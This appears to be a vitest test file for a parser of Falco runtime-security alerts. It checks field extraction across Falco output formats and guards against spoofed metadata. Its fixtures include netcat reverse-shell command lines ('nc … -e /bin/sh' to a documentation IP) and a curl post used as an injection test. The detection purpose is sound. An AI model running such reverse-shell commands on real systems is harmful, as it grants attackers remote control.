import { describe, expect, it } from "vitest";
import { falco } from "../../src/sources/falco.js";
import { K8S_AUDIT_TEXT_KEYS, outputTextFields, SYSCALL_TEXT_KEYS } from "../../src/sources/falco-output.js";
import { loadFieldFixture } from "./field-fixtures.js";
import { context, K8S_GROUP } from "./fixtures.js";

const ctx = context({ logGroup: K8S_GROUP, logStream: "falco-7x2kq" });

/** The first line of a field fixture, parsed. */
function fieldAlert(name: string): Record<string, unknown> {
  return JSON.parse(loadFieldFixture(name).lines[0]!) as Record<string, unknown>;
}

describe("falco output text", () => {
  it("reads the 0.32 form: pairs in parentheses, values with spaces, image as repository:tag", () => {
    // Prepare
    const alert = fieldAlert("falco-0.32-netcat-cmdline-only");

    // Act
    const fields = outputTextFields(alert.output as string, {}, SYSCALL_TEXT_KEYS);

    // Assess
    expect(Object.fromEntries(fields)).toEqual({
      "user.name": "root",
      "proc.cmdline": "nc 198.51.100.7 9876 -e /bin/sh",
      "container.id": "0be477336d3e",
      "container.name": "storefront",
      "container.image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/storefront:4.2.0",
    });
  });

  it("reads the current form: ` | ` after the message, append_output pairs at the end, no parentheses", () => {
    const alert = fieldAlert("falco-0.41-netcat-append-output");
    const fields = outputTextFields(alert.output as string, {}, SYSCALL_TEXT_KEYS);
    expect(fields.get("proc.cmdline")).toBe("nc -c /bin/sh 198.51.100.7 9876");
    expect(fields.get("proc.exepath")).toBe("/usr/bin/nc.openbsd");
    expect(fields.get("k8s.ns.name")).toBe("shop");
    expect(fields.get("container.image.tag")).toBe("4.2.0");
  });

  it("reads the -pk suffix after the closing parenthesis", () => {
    const alert = fieldAlert("falco-0.35-netcat-k8s");
    const fields = outputTextFields(alert.output as string, {}, SYSCALL_TEXT_KEYS);
    expect(fields.get("k8s.ns.name")).toBe("shop");
    expect(fields.get("k8s.pod.name")).toBe("shop-php-7c9d5b6f4-lq8rx");
    expect(fields.get("container.id")).toBe("5e4f3a2b1c0d");
  });

  it("masks values output_fields gives, so a command line cannot pose as metadata", () => {
    // Prepare: the command line prints ` container_id=host k8s_pod_name=decoy`.
    const cmdline = "curl -d container_id=host k8s_pod_name=decoy http://203.0.113.9/";
    const output = `(user=app command=${cmdline} container_id=6f1c2e0b9a8d k8s_pod_name=web-1)`;

    // Act
    const fields = outputTextFields(output, { "proc.cmdline": cmdline }, SYSCALL_TEXT_KEYS);

    // Assess
    expect(fields.get("container.id")).toBe("6f1c2e0b9a8d");
    expect(fields.get("k8s.pod.name")).toBe("web-1");
    expect(fields.has("proc.cmdline")).toBe(false);
  });

  it("skips <NA>, empty values, unknown keys and texts over a megabyte", () => {
    const fields = outputTextFields("(k8s_pod_name=<NA> user= foo=bar)", {}, SYSCALL_TEXT_KEYS);
    expect(fields.size).toBe(0);
    expect(outputTextFields(`(user=${"x".repeat(1 << 20)})`, {}, SYSCALL_TEXT_KEYS).size).toBe(0);
    expect(outputTextFields(undefined, {}, SYSCALL_TEXT_KEYS).size).toBe(0);
  });

  it("reads the k8saudit rule's pairs", () => {
    const alert = fieldAlert("falco-0.25-k8s-audit-attach-exec");
    const fields = outputTextFields(alert.output as string, {}, K8S_AUDIT_TEXT_KEYS);
    expect(Object.fromEntries(fields)).toEqual({
      "ka.user.name": "kubernetes-admin",
      "ka.target.name": "storefront-6d9f8b7c5-2xkzw",
      "ka.target.namespace": "shop",
      "ka.target.subresource": "exec",
      "ka.uri.param[command]": "curl",
    });
  });
});

describe("falco parser with fields only in the output text", () => {
  const base = fieldAlert("falco-0.32-netcat-cmdline-only");

  it("takes the process name from proc.cmdline's first word", () => {
    const [event] = falco.parse(JSON.stringify(base), ctx) ?? [];
    expect(event?.process).toEqual({
      name: "nc",
      args: ["198.51.100.7", "9876", "-e", "/bin/sh"],
      user: "root",
    });
    expect(event?.inContainer).toBe(true);
  });

  it("fills what output_fields lack from the text, and nothing output_fields already say", () => {
    // Prepare: a shipper kept only proc.cmdline.
    const alert = structuredClone(base);
    alert.output_fields = { "proc.cmdline": "nc 198.51.100.7 9876 -e /bin/sh", "user.name": "www-data" };

    // Act
    const [event] = falco.parse(JSON.stringify(alert), ctx) ?? [];

    // Assess
    expect(event?.container).toEqual({
      id: "0be477336d3e",
      name: "storefront",
      image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/storefront:4.2.0",
    });
    expect(event?.process.user).toBe("www-data");
    expect(event?.inContainer).toBe(true);
  });

  it("never takes an event out of scope on the text's word: container_id=host there is ignored", () => {
    const alert = {
      rule: "Netcat Remote Code Execution in Container",
      output: "03:12:45.1: Warning Netcat runs (command=nc -e /bin/sh 198.51.100.7 9876 container_id=host)",
      output_fields: { "proc.cmdline": "nc -e /bin/sh 198.51.100.7 9876" },
    };
    const [unknown] = falco.parse(JSON.stringify(alert), ctx) ?? [];
    expect(unknown?.inContainer).toBe("unknown");
    expect(unknown?.container.id).toBeUndefined();
    // The current rules are tagged `container`: their condition requires one.
    const [tagged] = falco.parse(JSON.stringify({ ...alert, tags: ["container", "network"] }), ctx) ?? [];
    expect(tagged?.inContainer).toBe(true);
  });

  it("reads parent_process, gparent and pid from the text", () => {
    const alert = {
      rule: "r",
      output: "(command=curl http://x parent_process=sh gparent=node pid=4242)",
      output_fields: { "proc.cmdline": "curl http://x", "container.id": "abc123def456" },
    };
    const [event] = falco.parse(JSON.stringify(alert), ctx) ?? [];
    expect(event?.ancestors).toEqual([{ name: "sh" }, { name: "node" }]);
    expect(event?.process.pid).toBe(4242);
  });
});
